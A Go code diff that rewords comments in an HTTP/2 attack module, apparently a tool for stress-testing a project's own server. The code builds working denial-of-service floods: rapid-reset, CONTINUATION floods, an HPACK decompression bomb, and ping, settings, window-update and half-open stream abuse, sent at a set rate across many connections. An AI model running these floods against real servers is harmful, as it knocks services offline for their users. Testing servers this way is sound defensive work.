@@ -11,27 +11,27 @@ import (
 	"time"
 )
 
-// H2Attack does, on connections in clear text, what costs a server more than its client. A connection that the server
-// ends is followed by another.
+// H2Attack attacks a server on connections in clear text, by actions that cost the server more than its client. It replaces a
+// connection that the server closes.
 type H2Attack struct {
 	Addr        string
 	Kind        string // one of H2AttackKinds
-	Rate        int    // of steps a second in all: a step is a frame, or a request and its reset
+	Rate        int    // total number of steps per second; a step is a frame, or a request and its reset
 	Connections int
 	Duration    time.Duration
 }
 
-// H2AttackResult is what was done.
+// H2AttackResult counts the steps and connections of an attack.
 type H2AttackResult struct {
 	Steps int64 `json:"steps"`
-	Ended int64 `json:"ended"` // connections that the server has ended
+	Ended int64 `json:"ended"` // connections that the server has closed
 }
 
-// h2Attack is what a kind does on a connection.
+// An h2Attack describes the frames of one kind of attack on a connection.
 type h2Attack struct {
 	settings string
 	begin    string             // sent first
-	step     func(i int) string // sent over and over, for i from 0; nil: begin is all
+	step     func(i int) string // sent repeatedly, for i from 0; nil: begin is everything
 }
 
 func h2Frames(frames ...[]byte) string { return string(slices.Concat(frames...)) }
@@ -44,7 +44,7 @@ func h2Post(id uint32) []byte {
 	return h2Frame(nil, h2Headers, h2EndHeaders, id, h2Block("POST", "/echo"))
 }
 
-// H2AttackKinds are the names, in the order of a report.
+// H2AttackKinds are the names of the kinds, in the order of a report.
 var H2AttackKinds = []string{
 	"rapid-reset", "made-you-reset", "continuation", "hpack-bomb", "ping", "settings", "empty-data", "window-update", "priority",
 	"zero-window", "half-open",
@@ -64,7 +64,7 @@ var h2Attacks = map[string]h2Attack{
 		step:  func(int) string { return h2Frames(h2Frame(nil, h2Continuation, 0, 1, manyFields)) },
 	},
 	"hpack-bomb": {step: func(i int) string {
-		// An entry as large as the table, named thousands of times by a byte each (RFC 7541, section 7.3).
+		// An entry as large as the table, which is referenced thousands of times by a byte each (RFC 7541, section 7.3).
 		bomb := h2Block("GET", "/plaintext") + "\x40" + h2Literal("bomb") + h2Literal(strings.Repeat("x", 4000)) + strings.Repeat("\xbe", 12_000)
 		return h2Frames(h2Frame(nil, h2Headers, h2EndStream|h2EndHeaders, uint32(2*i+1), bomb))
 	}},
@@ -85,7 +85,7 @@ var h2Attacks = map[string]h2Attack{
 	"half-open":   {begin: h2ForEach(h2Post)},
 }
 
-// h2ForEach is what a kind sends that opens a hundred streams.
+// h2ForEach returns the frames of a kind that opens a hundred streams.
 func h2ForEach(open func(id uint32) []byte) string {
 	var all []byte
 	for i := range uint32(100) {
@@ -117,7 +117,7 @@ func (a H2Attack) Run(ctx context.Context) (H2AttackResult, error) {
 	return H2AttackResult{Steps: steps.Load(), Ended: ended.Load()}, nil
 }
 
-// connection attacks by one connection, and reports whether the server has ended it.
+// connection attacks on one connection, and reports whether the server has closed it.
 func (a H2Attack) connection(ctx context.Context, kind h2Attack, steps *atomic.Int64) bool {
 	conn, err := dialH2(a.Addr, kind.settings)
 	if err != nil {
@@ -125,7 +125,7 @@ func (a H2Attack) connection(ctx context.Context, kind h2Attack, steps *atomic.I
 		return false
 	}
 	defer conn.Close()
-	over := make(chan struct{}) // the server has closed it
+	over := make(chan struct{}) // closed when the server has closed the connection
 	go func() {
 		defer close(over)
 		in := make([]byte, 32<<10)
@@ -148,7 +148,7 @@ func (a H2Attack) connection(ctx context.Context, kind h2Attack, steps *atomic.I
 	return a.steps(ctx, conn, kind, steps, over)
 }
 
-// steps takes the connection's share of the rate, a millisecond's worth at a time.
+// steps sends the connection's share of the rate, in batches of a millisecond.
 func (a H2Attack) steps(ctx context.Context, conn net.Conn, kind h2Attack, steps *atomic.Int64, over <-chan struct{}) bool {
 	const pace = time.Millisecond
 	share := float64(a.Rate) / float64(a.Connections)
